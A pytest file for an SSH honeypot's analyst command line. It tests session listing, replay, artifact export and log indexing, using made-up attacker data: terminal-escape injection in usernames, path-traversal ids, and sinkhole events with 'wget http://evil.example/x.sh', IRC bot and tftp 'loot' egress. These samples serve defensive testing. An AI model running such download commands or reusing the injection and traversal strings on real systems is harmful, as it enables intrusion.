"""The analyst commands (hermes sessions, show, stats, replay, artifacts, export, reindex) over
the SQLite index: a real session (scp upload, shell commands, a file written) found, replayed,
its artifacts listed and the whole of it exported; the index caught up from events.jsonl, line
by line, and rebuilt; attacker text kept off the terminal; an export from a log alone, with
files missing and names that must not become paths."""

import json
import os
import subprocess
from pathlib import Path
from types import SimpleNamespace

import paramiko
import pytest

from hermes_helpers import PASSWORD, USER, base_config, free_port, hermes_bin, open_shell, \
    parse_asciicast, parse_event_lines, scp_upload, sha256_bytes, sha256_file, write_config


def cli(config_path, *args, check=True):
    r = subprocess.run([str(hermes_bin()), *args, "--config", str(config_path)],
                       capture_output=True, timeout=60)
    if check:
        assert r.returncode == 0, (args, r.returncode, r.stderr.decode(errors="replace"))
    return r


def cli_json(config_path, *args):
    return json.loads(cli(config_path, *args, "--json").stdout)


@pytest.fixture(scope="module")
def recorded(hermes, tmp_path_factory):
    """Two finished sessions on the shared daemon, for several tests: an scp upload, and a shell
    that wrote /root/answer.txt; both with their artifacts collected."""
    payload = tmp_path_factory.mktemp("cli") / "drop.sh"
    payload.write_bytes(b"#!/bin/sh\necho dropped\n")
    mark = hermes.mark()
    r = scp_upload(hermes.port, payload, "/tmp/drop.sh")
    assert r.returncode == 0, r.stderr
    up_sid = hermes.wait_new_session(mark)
    with open_shell(hermes) as sh:
        sh.send("echo CLI-$((6*7)) > /root/answer.txt; cat /root/answer.txt\n")
        sh.expect(r"CLI-42")
        sh.send("exit\n")
        sh.exit_status()
    for sid in (sh.sid, up_sid):
        hermes.wait_event("session.closed", session=sid, timeout=60)
        hermes.wait_event("artifacts.collected", session=sid, timeout=60)
    return SimpleNamespace(sid=sh.sid, up_sid=up_sid, payload=payload)


def test_a_session_shown_and_replayed(hermes, recorded):
    sh = SimpleNamespace(sid=recorded.sid)
    up_sid, payload = recorded.up_sid, recorded.payload

    shown = cli_json(hermes.config_path, "show", sh.sid[:10])
    s = shown["session"]
    assert s["session"] == sh.sid and s["username"] == USER and s["password"] == PASSWORD
    assert s["src_ip"] == "127.0.0.1" and s["reason"] == "client_closed"
    assert s["hassh"] and s["client_version"].startswith("SSH-2.0-")
    assert [(x["result"], x["username"]) for x in shown["logins"]] == [("accepted", USER)]
    cmds = [x["command"] for x in shown["commands"]]
    assert cmds == ["echo CLI-$((6*7)) > /root/answer.txt; cat /root/answer.txt", "exit"]
    arts = {x["path"]: x for x in shown["artifacts"]}
    assert arts["/root/answer.txt"]["event"] == "created"
    assert arts["/root/answer.txt"]["size"] == len("CLI-42\n")
    assert shown["channels"][0]["kind"] == "shell" and shown["channels"][0]["recording"]

    up = cli_json(hermes.config_path, "show", up_sid)
    assert [(t["protocol"], t["direction"], t["path"]) for t in up["transfers"]] == \
        [("sftp", "upload", "/tmp/drop.sh")]
    stored = {x["path"]: x for x in up["artifacts"]}["/tmp/drop.sh"]
    assert stored["sha256"] == sha256_file(payload) and stored["transfer"] == 1

    # The same as text: a table per section with the command and the file in it.
    text = cli(hermes.config_path, "show", sh.sid).stdout.decode()
    assert "Commands" in text and "cat /root/answer.txt" in text and "/root/answer.txt" in text

    replay = cli(hermes.config_path, "replay", sh.sid, "--raw").stdout
    assert b"CLI-42\r\n" in replay

    listed = cli_json(hermes.config_path, "sessions", "--has-commands", "--ip", "127.0.0.1",
                      "--user", USER, "--limit", "0")
    assert sh.sid in [x["session"] for x in listed]
    assert up_sid not in [x["session"] for x in listed]
    assert cli_json(hermes.config_path, "sessions", "--ip", "192.0.2.1") == []

    stats = cli_json(hermes.config_path, "stats")
    assert USER in [x["username"] for x in stats["usernames"]]
    assert s["hassh"] in [x["hassh"] for x in stats["hassh"]]
    assert any(x["command"] == "exit" for x in stats["commands"])


ANSWER = b"CLI-42\n"  # what the shell of `recorded` wrote to /root/answer.txt


def test_artifacts_listed_with_where_they_are_stored(hermes, recorded):
    artifacts_dir = Path(hermes.config["forensics"]["artifacts_dir"])
    rows = cli_json(hermes.config_path, "artifacts", "--session", recorded.sid[:8],
                    "--limit", "0")
    assert rows and all(x["session"] == recorded.sid for x in rows)
    answer = {x["path"]: x for x in rows}["/root/answer.txt"]
    assert answer["event"] == "created" and answer["type"] == "file"
    assert answer["sha256"] == sha256_bytes(ANSWER) and answer["size"] == len(ANSWER)
    assert answer["stored"] == str(artifacts_dir / answer["sha256"])
    assert sha256_file(answer["stored"]) == answer["sha256"]
    assert set(answer) == {"session", "time", "event", "path", "type", "size", "sha256", "mode",
                           "transfer", "reason", "stored"}

    up = {x["path"]: x for x in cli_json(hermes.config_path, "artifacts", "--session",
                                         recorded.up_sid)}["/tmp/drop.sh"]
    assert up["transfer"] == 1 and up["sha256"] == sha256_file(recorded.payload)
    assert Path(up["stored"]).is_file() and sha256_file(up["stored"]) == up["sha256"]

    # All sessions: the newest N, oldest first; --since filters on the time.
    everything = cli_json(hermes.config_path, "artifacts", "--limit", "0")
    assert answer in everything and up in everything
    assert cli_json(hermes.config_path, "artifacts", "--limit", "2") == everything[-2:]
    assert answer in cli_json(hermes.config_path, "artifacts", "--since", "1h", "--limit", "0")
    assert cli_json(hermes.config_path, "artifacts", "--since", "2100-01-01") == []

    # Text: a table with the stored path whole.
    text = cli(hermes.config_path, "artifacts", "--session", recorded.sid).stdout.decode()
    assert "STORED" in text.splitlines()[0] and answer["stored"] in text

    assert cli(hermes.config_path, "artifacts", "--session", "zz", check=False).returncode == 1
    assert cli(hermes.config_path, "artifacts", "--session", "c0ffee" * 5,
               check=False).returncode == 1


def files_under(d):
    return sorted(str(p.relative_to(d)) for p in Path(d).rglob("*") if p.is_file())


def test_a_session_exported(hermes, recorded, tmp_path):
    sid = recorded.sid
    out = tmp_path / "new" / "export"  # neither exists yet
    r = cli(hermes.config_path, "export", sid[:12], str(out))
    files = files_under(out)
    assert sorted(r.stdout.decode().splitlines()) == sorted(f"{out}/{f}" for f in files)
    assert {"session.json", "events.jsonl", f"{sid}.cast", f"{sid}.json",
            "manifest.json"} <= set(files)

    # events.jsonl: the daemon's lines of this session, byte for byte, and only those.
    log_lines = hermes.events_path.read_bytes().split(b"\n")[:-1]
    mine = [ln for ln in log_lines if json.loads(ln).get("session") == sid]
    exported = (out / "events.jsonl").read_bytes()
    assert exported == b"".join(ln + b"\n" for ln in mine)
    evs = parse_event_lines(exported)
    assert evs and all(e["session"] == sid for e in evs)
    kinds = [e["event"] for e in evs]
    assert "session.closed" in kinds and "artifacts.collected" in kinds
    assert "login.success" in kinds and "command.input" in kinds

    assert json.loads((out / "session.json").read_text()) == cli_json(hermes.config_path,
                                                                      "show", sid)
    assert json.loads((out / "manifest.json").read_text())["session"] == sid
    assert json.loads((out / f"{sid}.json").read_text())["session_id"] == sid

    header, cast = parse_asciicast((out / f"{sid}.cast").read_text())
    assert header["version"] == 2
    assert "CLI-42" in "".join(data for _, code, data in cast if code == "o")

    stored = [p for p in (out / "artifacts").iterdir()]
    assert sha256_bytes(ANSWER) in [p.name for p in stored]
    for p in stored:
        assert sha256_file(p) == p.name
        mode = p.stat().st_mode & 0o777
        assert mode & 0o400 and not mode & 0o333, oct(mode)  # readable, never writable or run

    # Into a directory that is not empty: refused, nothing in it touched.
    before = {f: (out / f).read_bytes() for f in files}
    again = cli(hermes.config_path, "export", sid, str(out), check=False)
    assert again.returncode == 1 and b"not empty" in again.stderr, again.stderr
    assert {f: (out / f).read_bytes() for f in files_under(out)} == before

    # Into an empty directory, as JSON: the same files, with their sources.
    empty = tmp_path / "empty"
    empty.mkdir()
    listed = json.loads(cli(hermes.config_path, "export", sid, str(empty), "--json").stdout)
    assert listed["session"] == sid and listed["failed"] == []
    assert sorted(f["file"] for f in listed["files"]) == files
    byname = {f["file"]: f for f in listed["files"]}
    assert byname["events.jsonl"]["bytes"] == len(exported)
    assert byname[f"artifacts/{sha256_bytes(ANSWER)}"]["source"] == str(
        Path(hermes.config["forensics"]["artifacts_dir"]) / sha256_bytes(ANSWER))

    # Bad session ids and command lines.
    for bad in ("zz", "c0ffee" * 5):
        r = cli(hermes.config_path, "export", bad, str(tmp_path / "bad"), check=False)
        assert r.returncode == 1, (bad, r.stderr)
    assert not (tmp_path / "bad").exists()
    assert cli(hermes.config_path, "export", sid, check=False).returncode == 2


def test_attacker_text_never_reaches_the_terminal(hermes):
    evil = "\x1b]0;owned\x07\x1b[2Jroot"
    t = paramiko.Transport(("127.0.0.1", hermes.port))
    try:
        t.start_client(timeout=15)
        try:
            t.auth_password(evil, "nope\x1b[31m")
        except paramiko.AuthenticationException:
            pass
        sid = hermes.session_for_port(t.sock.getsockname()[1])
    finally:
        t.close()
    hermes.wait_event("session.closed", session=sid, timeout=30)
    for args in (("stats",), ("show", sid), ("sessions", "--limit", "0")):
        out = cli(hermes.config_path, *args).stdout
        assert b"\x1b" not in out and b"\x07" not in out, args
    assert "\\x1b]0;owned\\x07" in cli(hermes.config_path, "stats").stdout.decode()
    logins = cli_json(hermes.config_path, "show", sid)["logins"]
    assert logins[0]["username"] == evil and logins[0]["password"] == "nope\x1b[31m"


def event(name, sid, ts, **fields):
    return json.dumps({"timestamp": ts, "event": name, "session": sid, "src_ip": "198.51.100.7",
                       "src_port": 40000, **fields}) + "\n"


def test_index_follows_the_log_line_by_line(tmp_path):
    cfg = base_config(tmp_path, free_port())
    conf = tmp_path / "hermes.yaml"
    write_config(conf, cfg)
    logs = tmp_path / "logs"
    logs.mkdir()
    log = logs / "events.jsonl"
    a, b = "a" * 32, "b" * 32
    log.write_text(
        event("session.connect", a, "2026-11-20T10:00:00.000000Z", dst_port=22) +
        event("login.failed", a, "2026-11-20T10:00:01.000000Z", method="password",
              username="admin", password="admin", attempt=1) +
        "this is not json\n" +
        event("session.closed", a, "2026-11-20T10:00:02.000000Z", duration=2.0,
              reason="client_closed") +
        # Half a line: still being written.
        event("session.connect", b, "2026-11-23T09:00:00.000000Z", dst_port=22)[:40])
    rows = cli_json(conf, "sessions")
    assert [(x["session"], x["logins"], x["end"]) for x in rows] == [(a, 1, "client_closed")]

    # The rest of the line, and more: read from where the index stopped.
    with open(log, "a") as f:
        f.write(event("session.connect", b, "2026-11-23T09:00:00.000000Z", dst_port=22)[40:])
        f.write(event("command.input", b, "2026-11-23T09:00:05.000000Z", channel=0,
                      tty=False, source="exec", command="uname -a"))
    rows = cli_json(conf, "sessions")
    assert [x["session"] for x in rows] == [a, b]
    assert cli_json(conf, "sessions", "--since", "2026-11-22") == \
        [x for x in rows if x["session"] == b]
    assert [x["session"] for x in cli_json(conf, "sessions", "--has-commands")] == [b]
    assert cli_json(conf, "stats", "--since", "2026-11-21T00:00")["passwords"] == []
    assert cli_json(conf, "stats")["passwords"] == [{"password": "admin", "attempts": 1}]

    # Rebuilt from the log alone: the same answers, and the bad line counted.
    before = cli_json(conf, "show", b)
    (tmp_path / "hermes.db").unlink()
    out = cli(conf, "reindex").stdout.decode()
    assert "indexed 5 events" in out and "1 lines skipped" in out, out
    assert cli_json(conf, "show", b) == before

    # Errors: a prefix that matches no session, a --since that cannot be read.
    assert cli(conf, "show", "c0ffee", check=False).returncode == 1
    assert cli(conf, "sessions", "--since", "yesterday", check=False).returncode == 2


def test_a_line_the_index_refuses_is_skipped(tmp_path):
    """A line jansson takes but SQLite's JSON functions do not (an alert nested 2,040 deep) is a
    bad line: counted, skipped whole, and every command and the lines after it still work."""
    cfg = base_config(tmp_path, free_port())
    conf = tmp_path / "hermes.yaml"
    write_config(conf, cfg)
    logs = tmp_path / "logs"
    logs.mkdir()
    log = logs / "events.jsonl"
    a, b = "a" * 32, "b" * 32
    deep = "[" * 2040 + "]" * 2040
    log.write_text(
        event("session.connect", a, "2026-11-20T10:00:00.000000Z", dst_port=22) +
        event("login.failed", a, "2026-11-20T10:00:01.000000Z", method="password",
              username="admin", password="admin", attempt=1)[:-2] +
        ', "alert": {"type": "bait_file", "paths": ' + deep + "}}\n" +
        event("login.failed", a, "2026-11-20T10:00:02.000000Z", method="password",
              username="root", password="root", attempt=2) +
        # Deep, but in a field no SQL reads: refused by the reader's cap all the same.
        event("client.version", a, "2026-11-20T10:00:03.000000Z", version="SSH-2.0-x",
              extra=json.loads("[" * 100 + "]" * 100)))
    rows = cli_json(conf, "sessions")
    assert [(x["session"], x["logins"], x["client"]) for x in rows] == [(a, 1, None)]
    # Nothing of the bad line was kept: no login row, no alert.
    shown = cli_json(conf, "show", a)
    assert [x["username"] for x in shown["logins"]] == ["root"] and shown["alerts"] == []

    # Later lines are indexed; the bad ones were passed, not read again.
    with open(log, "a") as f:
        f.write(event("session.connect", b, "2026-11-23T09:00:00.000000Z", dst_port=22))
    assert [x["session"] for x in cli_json(conf, "sessions")] == [a, b]
    assert cli_json(conf, "stats")["usernames"] == [
        {"username": "root", "attempts": 1, "accepted": 0}]
    out = cli(conf, "reindex").stdout.decode()
    assert "indexed 3 events" in out and "2 lines skipped" in out, out
    assert [x["session"] for x in cli_json(conf, "sessions")] == [a, b]


def test_replay_warns_a_terminal_and_escapes_on_request(tmp_path):
    """SECURITY.md: replay warns that it plays the attacker's output - on stderr, when stdout is
    a terminal - and --escape shows the control sequences in it as text."""
    import pty
    import select
    cfg = base_config(tmp_path, free_port())
    conf = tmp_path / "hermes.yaml"
    write_config(conf, cfg)
    logs, rec = tmp_path / "logs", tmp_path / "recordings"
    logs.mkdir()
    rec.mkdir()
    a = "a" * 32
    cast = rec / f"{a}.cast"
    out = ["$ ls\r\n", "\x1b]0;owned\x07\x1b[2J", "invoice\u202etxt.exe\r", "\n\tok\r"]
    cast.write_text(json.dumps({"version": 2, "width": 80, "height": 24}) + "\n" +
                    "".join(json.dumps([0.01 * i, "o", x]) + "\n" for i, x in enumerate(out)))
    (logs / "events.jsonl").write_text(
        event("session.connect", a, "2026-11-20T10:00:00.000000Z", dst_port=22) +
        event("session.shell", a, "2026-11-20T10:00:01.000000Z", channel=0, kind="shell",
              tty=True, recording=str(cast)))

    # Into a pipe: the bytes as recorded, and no warning.
    r = cli(conf, "replay", a, "--raw")
    assert r.stdout == "".join(out).encode() and r.stderr == b""

    # Escaped: no control character left; lines and tabs kept, CRLF a newline.
    r = cli(conf, "replay", a, "--escape")
    assert r.stdout.decode() == ("$ ls\n\\x1b]0;owned\\x07\\x1b[2Jinvoice\\u202etxt.exe\n"
                                 "\tok\\x0d"), r.stdout
    assert r.stderr == b""

    # Into a terminal: warned on stderr first; with --escape, nothing to warn of.
    def on_a_terminal(*args):
        master, slave = pty.openpty()
        try:
            p = subprocess.Popen([str(hermes_bin()), "replay", a, "--raw", *args, "--config",
                                  str(conf)], stdout=slave, stderr=subprocess.PIPE)
            os.close(slave)
            err = p.communicate(timeout=30)[1]
            seen = b""
            while select.select([master], [], [], 0.5)[0]:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                seen += chunk
            assert p.returncode == 0, err
            return err.decode(), seen
        finally:
            os.close(master)
    err, seen = on_a_terminal()
    assert f"replay {a}: what follows is the attacker's terminal output" in err, err
    assert "--escape" in err and b"\x1b]0;owned" in seen
    err, seen = on_a_terminal("--escape")
    assert err == "" and b"\x1b" not in seen and b"\\x1b]0;owned" in seen


def test_usage_and_docs_list_the_same_commands():
    """The commands come from one table: `hermes CMD --help` prints its rows, `hermes --help` its
    names, and docs/cli.md's synopsis must say the same."""
    from hermes_helpers import REPO_ROOT

    def run(*args):
        r = subprocess.run([str(hermes_bin()), *args], capture_output=True, timeout=30)
        assert r.returncode == 0, (args, r.stderr)
        return r.stdout.decode()

    def synopsis(text):
        lines = []
        for ln in text.splitlines():
            ln = ln.removeprefix("usage:")
            if ln.startswith("       hermes ") or ln.lstrip().startswith("hermes "):
                lines.append(ln.strip())
            elif lines and ln.startswith(" ") and ln.strip().startswith("["):
                lines[-1] += " " + ln.strip()  # a wrapped line
        return lines

    usage = synopsis(run("sessions", "--help")) + synopsis(run("prune", "--help"))
    doc = (REPO_ROOT / "docs" / "cli.md").read_text()
    block = doc.split("```sh\n", 1)[1].split("```", 1)[0]
    assert [" ".join(x.split()) for x in block.splitlines() if x.strip()] == usage
    names = [x.split()[1] for x in usage]
    assert f"hermes {'|'.join(names)}" in run("--help")
    for name in names:
        assert run(name, "--help").startswith("usage: hermes ")


def test_artifacts_and_export_from_a_log_alone(tmp_path):
    """No daemon: a log, a store with one of two files, a recording that is gone, and ids and
    hashes in the log that would be paths if they were used as names."""
    cfg = base_config(tmp_path, free_port())
    conf = tmp_path / "hermes.yaml"
    write_config(conf, cfg)
    logs, store, rec = tmp_path / "logs", tmp_path / "artifacts", tmp_path / "recordings"
    for d in (logs, store, rec):
        d.mkdir()
    a, evil = "a" * 32, "ab/../../escaped"
    kept, lost = b"kept\n", b"lost\n"
    (store / sha256_bytes(kept)).write_bytes(kept)
    (rec / f"{a}.cast").write_text('{"version": 2, "width": 80, "height": 24}\n')

    def ts(n):
        return f"2026-11-20T10:00:{n:02d}.000000Z"

    log = (
        event("session.connect", a, ts(0), dst_port=22) +
        event("session.shell", a, ts(1), channel=0, kind="shell", tty=True,
              recording=str(rec / f"{a}.cast")) +
        event("session.shell", a, ts(2), channel=1, kind="exec", tty=False,
              recording=str(rec / f"{a}-1.cast")) +  # never written
        event("session.connect", "b" * 32, ts(3), dst_port=22) +
        # Another session's line that names this one: not this session's.
        event("login.failed", "b" * 32, ts(3), method="password", username=a, password=a,
              attempt=1) +
        event("file.created", a, ts(4), path="/root/kept", type="file", size=5,
              sha256=sha256_bytes(kept), mode="0755") +
        event("file.changed", a, ts(5), path="/etc/lost", type="file", size=5,
              sha256=sha256_bytes(lost), mode="0644") +
        event("file.created", a, ts(6), path="/root/odd", type="file", size=1,
              sha256="../../../escaped", mode="0644") +
        event("artifact.skipped", a, ts(7), path="/root/big", reason="max_file_size") +
        event("file.deleted", a, ts(8), path="/etc/motd") +
        event("session.closed", a, ts(9), duration=9.0, reason="client_closed") +
        event("session.connect", evil, ts(10), dst_port=22))
    (logs / "events.jsonl").write_text(log + event("session.closed", a, ts(11))[:30])

    rows = cli_json(conf, "artifacts", "--session", a)
    assert [(x["event"], x["path"]) for x in rows] == [
        ("created", "/root/kept"), ("changed", "/etc/lost"), ("created", "/root/odd"),
        ("skipped", "/root/big"), ("deleted", "/etc/motd")]
    assert [x["stored"] for x in rows] == [str(store / sha256_bytes(kept))] + [None] * 4

    out = tmp_path / "out"
    r = cli(conf, "export", a, str(out), "--json", check=False)
    assert r.returncode == 1, r.stderr
    res = json.loads(r.stdout)
    assert sorted(f["file"] for f in res["failed"]) == sorted(
        [f"{a}-1.cast", f"artifacts/{sha256_bytes(lost)}", "artifacts/"])
    stderr = r.stderr.decode()
    assert f"{a}-1.cast" in stderr and sha256_bytes(lost) in stderr
    # Everything else was still written, and nothing outside DIR.
    assert files_under(out) == sorted(["session.json", "events.jsonl", f"{a}.cast",
                                       f"artifacts/{sha256_bytes(kept)}"])
    assert not (tmp_path / "escaped").exists()
    lines = (out / "events.jsonl").read_text().splitlines()
    assert len(lines) == 9 and all(json.loads(x)["session"] == a for x in lines)
    assert (out / "events.jsonl").read_text() == "".join(
        x for x in log.splitlines(keepends=True) if json.loads(x)["session"] == a)
    assert not os.stat(out / "artifacts" / sha256_bytes(kept)).st_mode & 0o333

    # A session id that is a prefix of a name with a path in it: never used as a name.
    r = cli(conf, "export", "ab", str(tmp_path / "evil"), check=False)
    assert r.returncode == 1 and b"not a session id of ours" in r.stderr, r.stderr
    assert not (tmp_path / "evil").exists()
    assert cli(conf, "show", "ab").returncode == 0  # still shown, as the log has it


def test_network_activity_shown_and_counted(tmp_path):
    """No daemon: the sinkhole's events (egress.*, file.downloaded) in a log, as `show` and `stats`
    tell them; attacker text in them kept off the terminal as everywhere else."""
    cfg = base_config(tmp_path, free_port())
    conf = tmp_path / "hermes.yaml"
    write_config(conf, cfg)
    logs = tmp_path / "logs"
    logs.mkdir()
    a, b = "a" * 32, "b" * 32
    payload, other = sha256_bytes(b"#!/bin/sh\n"), sha256_bytes(b"\x7fELF")

    def ts(n):
        return f"2026-12-05T10:00:{n:02d}.000000Z"

    def box(name, sid, n, **fields):
        return event(name, sid, ts(n), container_id="c0ffee", box_ip="10.77.0.2", **fields)

    def http(sid, n, url, host, status, sha=None, **fields):
        return box("egress.http", sid, n, method="GET", url=url, host=host, dst="10.77.0.1",
                   dport=80, sport=40000 + n, headers=[["Host", host]], fetch="live",
                   status=status, **({"sha256": sha} if sha else {}), **fields)

    def downloaded(sid, n, url, sha, source):
        return box("file.downloaded", sid, n, url=url, sha256=sha, size=10,
                   content_type="text/x-sh", source=source, cmdline=f"wget {url}")

    (logs / "events.jsonl").write_text(
        event("session.connect", a, ts(0), dst_port=22) +
        box("egress.dns", a, 1, server="10.77.0.1", query="Evil.Example", qtype="A",
            answer="10.77.0.1", rcode=0) +
        http(a, 2, "http://evil.example/x.sh", "evil.example", 200, payload,
             cmdline="wget http://evil.example/x.sh", user_agent="Wget/1.21", bytes=10) +
        downloaded(a, 2, "http://evil.example/x.sh", payload, "live") +
        box("egress.dns", a, 3, server="10.77.0.1", rcode=1, bytes=7) +
        box("egress.connect", a, 4, proto="tcp", dst="10.77.0.9", dport=6667, sport=40100,
            bytes=20, head="NICK bot\r\n\x1b]0;owned\x07", host="irc.example") +
        box("egress.connect", a, 5, proto="udp", dst="10.77.0.1", dport=69, sport=40200,
            tftp="write", url="tftp://10.77.0.1/loot") +
        box("egress.limited", a, 6, connections_refused=3, events_dropped=1) +
        box("egress.smtp", a, 7, dst="10.77.0.25", dport=25, helo="bot", mail_from="x@example",
            rcpt_to=["y@example", "z@example"], bytes=99, subject="hi") +
        event("session.connect", b, ts(10), dst_port=22) +
        box("egress.dns", b, 11, server="10.77.0.1", query="evil.example", qtype="A",
            answer="10.77.0.1", rcode=0) +
        # The same body from another URL, from the cache; another body; a box with no session.
        http(b, 12, "http://mirror.example/x.sh", "mirror.example", 200, payload) +
        downloaded(b, 12, "http://mirror.example/x.sh", payload, "cache") +
        http(b, 13, "http://evil.example/x.sh", "evil.example", 404) +
        http(b, 14, "http://evil.example/bot", "evil.example", 200, other) +
        downloaded(b, 14, "http://evil.example/bot", other, "live") +
        downloaded(None, 15, "http://mirror.example/x.sh", payload, "cache"))

    shown = cli_json(conf, "show", a)
    assert [(x["query"], x["qtype"], x["answer"], x["rcode"]) for x in shown["dns"]] == [
        ("Evil.Example", "A", "10.77.0.1", 0), (None, None, None, 1)]
    assert shown["dns"][1]["detail"] == {"rcode": 1, "bytes": 7, "container_id": "c0ffee",
                                         "box_ip": "10.77.0.2"}
    [req] = shown["http"]
    assert (req["method"], req["url"], req["status"], req["fetch"], req["sha256"],
            req["cmdline"]) == ("GET", "http://evil.example/x.sh", 200, "live", payload,
                                "wget http://evil.example/x.sh")
    assert req["detail"]["headers"] == [["Host", "evil.example"]]
    assert req["detail"]["user_agent"] == "Wget/1.21" and "error" not in req["detail"]
    conns = shown["connections"]
    assert [(x["kind"], x["proto"], x["dst"], x["dport"]) for x in conns] == [
        ("connect", "tcp", "10.77.0.9", 6667), ("connect", "udp", "10.77.0.1", 69),
        ("limited", None, None, None), ("smtp", "tcp", "10.77.0.25", 25)]
    assert conns[0]["host"] == "irc.example" and conns[0]["what"].startswith("NICK bot")
    assert (conns[1]["url"], conns[1]["what"]) == ("tftp://10.77.0.1/loot", "tftp write")
    assert conns[2]["what"] == "connections refused: 3, events dropped: 1"
    assert conns[3]["what"] == "mail from x@example to y@example, z@example: hi"
    assert [(x["url"], x["sha256"], x["size"], x["source"]) for x in shown["downloads"]] == [
        ("http://evil.example/x.sh", payload, 10, "live")]
    assert cli_json(conf, "show", b)["downloads"][0]["source"] == "cache"

    text = cli(conf, "show", a).stdout.decode()
    for title in ("DNS queries", "HTTP requests", "Other connections", "Downloads"):
        assert f"\n{title}\n" in text, title
    assert "wget http://evil.example/x.sh" in text and "DETAIL" not in text
    assert "\x1b" not in text and "NICK bot\\x0d\\x0a\\x1b]0;owned\\x07" in text

    stats = cli_json(conf, "stats")
    assert stats["urls"][:2] == [
        {"url": "http://evil.example/x.sh", "times": 2, "sessions": 2},
        {"url": "http://evil.example/bot", "times": 1, "sessions": 1}]
    assert {"url": "tftp://10.77.0.1/loot", "times": 1, "sessions": 1} in stats["urls"]
    # Both sessions looked it up (one in capitals) and asked for it three times.
    assert stats["domains"] == [
        {"domain": "evil.example", "queries": 2, "requests": 3, "sessions": 2},
        {"domain": "mirror.example", "queries": 0, "requests": 1, "sessions": 1}]
    # A payload with the URL it first came from; the box with no session is not a session.
    assert stats["payloads"] == [
        {"sha256": payload, "url": "http://evil.example/x.sh", "size": 10,
         "first": "2026-12-05 10:00:02", "downloads": 3, "sessions": 2},
        {"sha256": other, "url": "http://evil.example/bot", "size": 10,
         "first": "2026-12-05 10:00:14", "downloads": 1, "sessions": 1}]
    later = cli_json(conf, "stats", "--since", "2026-12-05T10:00:13")
    assert [x["sha256"] for x in later["payloads"]] == [other, payload]
    assert later["payloads"][1]["url"] == "http://mirror.example/x.sh"
    assert [x["domain"] for x in later["domains"]] == ["evil.example"]
    text = cli(conf, "stats").stdout.decode()
    for title in ("URLs requested", "Domains", "Payloads"):
        assert f"\n{title}" in text, title

    # Exported with the body its box downloaded, as the store keeps it.
    store = tmp_path / "artifacts"
    store.mkdir()
    (store / payload).write_bytes(b"#!/bin/sh\n")
    out = tmp_path / "out"
    cli(conf, "export", a, str(out))
    assert files_under(out) == ["artifacts/" + payload, "events.jsonl", "session.json"]
    assert json.loads((out / "session.json").read_text()) == shown


def test_the_daemon_keeps_the_index_current(hermes):
    """No analyst command runs here: the daemon's indexer child writes the rows."""
    import sqlite3
    from hermes_helpers import ssh_exec, wait_for
    mark = hermes.mark()
    r = ssh_exec(hermes.port, "echo indexed-by-daemon")
    assert r.returncode == 0, r
    sid = hermes.wait_event("session.closed", since=mark, timeout=30)["session"]

    def row():
        db = sqlite3.connect(hermes.config["forensics"]["database"], timeout=10)
        try:
            found = db.execute("SELECT reason, commands FROM sessions WHERE id = ?",
                               (sid,)).fetchone()
            return found if found and found[0] else None  # closed, and indexed as such
        except sqlite3.OperationalError:
            return None  # the schema may not be made yet
        finally:
            db.close()
    assert wait_for(row, timeout=15, what="the session in the index") == ("client_closed", 1)
